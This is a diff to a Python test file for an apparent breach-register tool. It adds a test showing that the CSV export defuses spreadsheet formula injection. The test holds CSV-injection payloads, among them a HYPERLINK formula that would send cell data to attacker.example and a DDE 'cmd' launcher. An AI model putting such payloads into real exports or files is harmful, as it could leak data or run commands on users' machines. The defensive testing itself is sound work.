@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import timedelta
 
 from incident.commands import ActOnObligation, CorrectFacts, OverrideRisk
@@ -37,7 +39,8 @@ def test_a_submitted_late_notification_is_on_the_register_with_its_reasons() -> 
 def test_an_unnotified_breach_says_why() -> None:
     start = aware_incident()
     changes = {"mitigations": ["data_recovered_and_deleted"], "recipients": "known", "malicious": False}
-    correction = CorrectFacts(incident_id=start.id, changes=changes, by="alice", reason="laptop found unopened")
+    correction = CorrectFacts(incident_id=start.id, changes=changes, by="alice", reason="laptop found unopened",
+                              role="dpo")  # it lowers the risk: the DPO decides
     state = apply(start, correction, timedelta(hours=2))
     state = apply(state, OverrideRisk(incident_id=state.id, level="unlikely", by="dpo", role="dpo",
                                       justification="Device recovered sealed; no access possible."),
@@ -47,3 +50,23 @@ def test_an_unnotified_breach_says_why() -> None:
     assert e["override"]["justification"].startswith("Device recovered")
     assert e["remedial_action"] == ["data_recovered_and_deleted"]
     assert e["assessment"]["reasoning"]
+
+
+def test_the_csv_export_leaves_no_cell_for_a_spreadsheet_to_run() -> None:
+    """OWASP's rule for CSV injection: a cell starting with = + - @ or a tab or carriage return is
+    prefixed with a single quote; other cells are as they were."""
+    from console.app import register_csv  # the export of the console and of `breach register`
+
+    e = entry(aware_incident())
+    e["controller"] = "=HYPERLINK(\"http://attacker.example/?\"&A1)"
+    e["facts"]["breach_types"] = ["+cmd|' /C calc'!A0"]
+    e["facts"]["data_categories"] = ["-2+3"]
+    e["effects"] = ["@SUM(1+1)"]
+    e["not_notified_because"] = "\t=1"
+    e["assessment"] = {**(e["assessment"] or {}), "reasoning": "\r=1"}
+    (row,) = csv.DictReader(io.StringIO(register_csv([e])))
+    assert row["controller"] == "'=HYPERLINK(\"http://attacker.example/?\"&A1)"
+    assert row["breach_types"] == "'+cmd|' /C calc'!A0" and row["data_categories"] == "'-2+3"
+    assert row["effects"] == "'@SUM(1+1)" and row["not_notified_because"] == "'\t=1"
+    assert row["assessment_reasoning"] == "'\r=1"
+    assert row["reference"] == e["reference"] and row["status"] == e["status"]  # the rest unchanged
